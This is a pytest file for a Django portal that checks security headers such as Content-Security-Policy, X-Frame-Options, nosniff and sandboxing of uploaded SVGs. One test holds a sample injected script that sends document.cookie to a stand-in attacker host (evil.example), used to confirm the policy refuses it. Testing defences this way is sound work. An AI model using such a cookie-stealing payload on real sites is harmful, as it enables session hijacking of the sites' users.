"""Security headers on every response: CSP without 'unsafe-inline' scripts, no framing, no sniffing."""

import base64
import hashlib

import pytest
from django.http import HttpResponse
from django.urls import reverse

from portal import roles
from portal.seguridad import CabecerasDeSeguridad, hashes_de_scripts
from tests.portal.factories import crear_dependencia, crear_usuario

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("url", ["/", "/tramites/", "/buscar/?q=predial", "/no-existe/", "/admin/login/"])
def test_cabeceras_en_paginas_publicas(client, url):
    respuesta = client.get(url)
    politica = respuesta["Content-Security-Policy"]
    assert "default-src 'self'" in politica and "frame-ancestors 'none'" in politica
    script_src = politica.split("script-src")[1].split(";")[0]
    assert "unsafe-inline" not in script_src and "unsafe-eval" not in script_src
    style_src = politica.split("style-src")[1].split(";")[0]
    assert ("unsafe-inline" in style_src) == url.startswith("/admin/")  # inline styles only in the back office
    assert respuesta["X-Frame-Options"] == "DENY"
    assert respuesta["X-Content-Type-Options"] == "nosniff"
    assert "camera=()" in respuesta["Permissions-Policy"]
    assert respuesta["Referrer-Policy"] == "strict-origin-when-cross-origin"


def test_el_editor_de_la_administracion_solo_recibe_el_hash_de_su_script(client):
    client.force_login(crear_usuario(grupo=roles.FUNCIONARIO, dependencias=[crear_dependencia()]))
    respuesta = client.get(reverse("admin:portal_noticia_add"))
    html = respuesta.content
    assert b'<script type="importmap"' in html
    script_src = respuesta["Content-Security-Policy"].split("script-src")[1].split(";")[0]
    assert "unsafe-inline" not in script_src
    # The page's import map is the script the policy allows: the editor runs.
    assert set(hashes_de_scripts(html)) <= set(script_src.split())


def _vista_con(html):
    return lambda request: HttpResponse(html)


@pytest.mark.parametrize("ruta", ["/", "/admin/portal/noticia/add/"])
def test_un_script_inyectado_no_recibe_hash(rf, ruta):
    """Only the scripts the portal ships are allowed, never whatever inline script a response contains."""
    inyectado = b"<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    respuesta = CabecerasDeSeguridad(_vista_con(inyectado))(rf.get(ruta))
    script_src = respuesta["Content-Security-Policy"].split("script-src")[1].split(";")[0]
    assert hashes_de_scripts(inyectado)[0] not in script_src
    assert script_src.strip() == "'self'" or ruta.startswith("/admin/")


def test_solo_los_scripts_ejecutables_reciben_hash():
    codigo = b"console.log(1)"
    esperado = "'sha256-" + base64.b64encode(hashlib.sha256(codigo).digest()).decode() + "'"
    html = (
        b'<script src="/static/a.js"></script><script type="application/ld+json">{"a": 1}</script>'
        b"<script>" + codigo + b"</script>"
    )
    assert hashes_de_scripts(html) == [esperado]


def test_cada_formulario_de_la_administracion_tiene_permitidos_sus_scripts(client):
    """Every add form of the back office runs its inline scripts (the editors' import maps) under the policy."""
    from django.contrib import admin

    client.force_login(crear_usuario(is_superuser=True))
    revisados = 0
    for modelo in admin.site._registry:
        url = reverse(f"admin:{modelo._meta.app_label}_{modelo._meta.model_name}_add")
        respuesta = client.get(url)
        if respuesta.status_code != 200:  # models nobody adds by hand (the change log, visits)
            continue
        revisados += 1
        script_src = respuesta["Content-Security-Policy"].split("script-src")[1].split(";")[0]
        assert set(hashes_de_scripts(respuesta.content)) <= set(script_src.split()), url
    assert revisados > 10


def test_los_archivos_subidos_no_se_ejecutan(rf):
    respuesta = CabecerasDeSeguridad(_vista_con(b"<svg><script>alert(1)</script></svg>"))(
        rf.get("/media/imagenes/logo.svg")
    )
    politica = respuesta["Content-Security-Policy"]
    assert "default-src 'none'" in politica and "sandbox" in politica and "script-src" not in politica


def test_el_readme_sirve_media_con_nosniff_y_politica_restrictiva():
    """Production serves /media/ from nginx: the documented block must say how to serve uploads safely."""
    from pathlib import Path

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text()
    bloque = readme.split("location /media/ {", 1)[1].split("}", 1)[0]
    assert 'X-Content-Type-Options "nosniff" always' in bloque
    assert "Content-Security-Policy \"default-src 'none'" in bloque and "sandbox" in bloque
